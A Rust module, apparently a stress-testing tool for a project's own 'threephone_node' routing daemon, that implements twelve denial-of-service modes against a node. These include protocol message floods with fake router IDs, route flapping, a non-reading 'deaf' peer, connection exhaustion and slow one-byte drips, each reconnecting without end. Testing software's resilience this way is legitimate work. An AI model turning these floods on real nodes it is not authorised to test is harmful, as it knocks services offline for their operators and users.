//! A peer that floods. It prepares what it says, says it again and again, and comes back when it is
//! hung up on.

use std::collections::VecDeque;
use std::io::{Read, Write};
use std::net::{Ipv6Addr, SocketAddr, TcpStream};
use std::time::Duration;

use bytes::BytesMut;
use clap::ValueEnum;
use threephone_node::wire::control::{Hello, Ihu, RouteRequest, SeqnoRequest, Tlv, Update};
use threephone_node::wire::data::DataPacket;
use threephone_node::{Prefix, PublicKey, RouterId};

use crate::Error;

/// More than one peer may announce.
const PREPARED: u64 = 160_000;
/// After being hung up on; whoever dials in a loop only measures how fast it can.
const PAUSE: Duration = Duration::from_millis(10);
/// Connections held at once by whoever opens them without end.
const HELD: usize = 400;

/// What is done to the node.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub(crate) enum Attack {
    Hello,
    Ihu,
    Update,
    Flapping,
    RouteRequest,
    Wildcard,
    SeqnoRequest,
    /// Packets for made-up nodes.
    Data,
    /// Packets for the node itself, from made-up ones.
    Sources,
    /// Asks for everything, is sent data, and reads nothing.
    Deaf,
    Connections,
    /// As many connections as it is let, one byte a second each.
    Drip,
}

impl Attack {
    pub(crate) const ALL: [Self; 12] = [
        Self::Hello,
        Self::Ihu,
        Self::Update,
        Self::Flapping,
        Self::RouteRequest,
        Self::Wildcard,
        Self::SeqnoRequest,
        Self::Data,
        Self::Sources,
        Self::Deaf,
        Self::Connections,
        Self::Drip,
    ];

    /// As on the command line.
    pub(crate) fn name(self) -> &'static str {
        match self {
            Self::Hello => "hello",
            Self::Ihu => "ihu",
            Self::Update => "update",
            Self::Flapping => "flapping",
            Self::RouteRequest => "route-request",
            Self::Wildcard => "wildcard",
            Self::SeqnoRequest => "seqno-request",
            Self::Data => "data",
            Self::Sources => "sources",
            Self::Deaf => "deaf",
            Self::Connections => "connections",
            Self::Drip => "drip",
        }
    }
}

/// Goes on until the process is ended.
pub(crate) fn run(attack: Attack, endpoint: &str, address: Ipv6Addr) -> Result<(), Error> {
    let target: SocketAddr = endpoint.trim_start_matches("tcp://").parse()?;
    match attack {
        Attack::Connections => connect_without_end(target),
        Attack::Drip => drip(target),
        _ => {
            let prepared = prepare(attack, address);
            loop {
                // Whatever ends the connection, it comes back.
                let _ = flood(target, &prepared, attack != Attack::Deaf);
                std::thread::sleep(PAUSE);
            }
        }
    }
}

fn flood(target: SocketAddr, prepared: &[u8], reads: bool) -> std::io::Result<()> {
    let mut stream = TcpStream::connect(target)?;
    if reads {
        let mut reading = stream.try_clone()?;
        std::thread::spawn(move || while reading.read(&mut [0; 65_536]).is_ok_and(|n| n > 0) {});
    }
    stream.write_all(&own_announcement())?;
    loop {
        stream.write_all(prepared)?;
    }
}

fn connect_without_end(target: SocketAddr) -> Result<(), Error> {
    let mut held = VecDeque::new();
    loop {
        let mut stream = TcpStream::connect(target)?;
        let _ = stream.write_all(&[1]);
        held.push_back(stream);
        if held.len() > HELD {
            held.pop_front();
        }
    }
}

fn drip(target: SocketAddr) -> Result<(), Error> {
    let mut held = Vec::new();
    loop {
        while held.len() < HELD {
            held.push(TcpStream::connect(target)?);
        }
        held.retain_mut(|stream| stream.write_all(&[1]).is_ok());
        std::thread::sleep(Duration::from_secs(1));
    }
}

/// The attacker says who it is, as any node does.
fn own_announcement() -> BytesMut {
    let mut out = BytesMut::new();
    let (router_id, prefix) = made_up(u64::MAX);
    Tlv::Update(Update { interval: 30_000, seqno: 0, metric: 0, prefix, router_id })
        .encode(&mut out);
    out
}

fn made_up(number: u64) -> (RouterId, Prefix) {
    let mut bytes = [0x77; 32];
    bytes[..8].copy_from_slice(&number.to_le_bytes());
    let key = PublicKey::from_bytes(bytes);
    (RouterId::new(key, [3; 6]), Prefix::subnet_of(key.address()))
}

fn prepare(attack: Attack, address: Ipv6Addr) -> BytesMut {
    let mut out = BytesMut::new();
    for number in 0..PREPARED {
        say(attack, number, address, &mut out);
    }
    out
}

fn say(attack: Attack, number: u64, address: Ipv6Addr, out: &mut BytesMut) {
    let (router_id, prefix) = made_up(match attack {
        Attack::Flapping => number % 100,
        Attack::Hello | Attack::Ihu | Attack::Wildcard => 0, // not looked at
        Attack::Deaf => u64::MAX,
        _ => number,
    });
    let tlv = match attack {
        Attack::Hello => Tlv::Hello(Hello { seqno: number as u16, interval: 0 }),
        Attack::Ihu => Tlv::Ihu(Ihu { rxcost: 0, interval: 0 }),
        Attack::Update => {
            Tlv::Update(Update { interval: 30_000, seqno: 0, metric: 5, prefix, router_id })
        }
        Attack::Flapping => {
            let metric = if (number / 100).is_multiple_of(2) { 5 } else { u16::MAX };
            Tlv::Update(Update { interval: 30_000, seqno: 0, metric, prefix, router_id })
        }
        Attack::RouteRequest => {
            Tlv::RouteRequest(RouteRequest { generation: 0, prefix: Some(prefix) })
        }
        Attack::Wildcard => Tlv::RouteRequest(RouteRequest { generation: 0, prefix: None }),
        Attack::SeqnoRequest => {
            Tlv::SeqnoRequest(SeqnoRequest { seqno: 9, hop_count: 64, router_id, prefix })
        }
        Attack::Deaf if number.is_multiple_of(2) => {
            Tlv::RouteRequest(RouteRequest { generation: 0, prefix: None })
        }
        _ => {
            let far = prefix.address();
            let (source, destination) = match attack {
                Attack::Sources => (far, address),
                _ => (made_up(7).1.address(), far),
            };
            let payload = vec![0; 100].into();
            DataPacket { hop_limit: 64, source, destination, payload }.encode(out);
            return;
        }
    };
    tlv.encode(out);
}
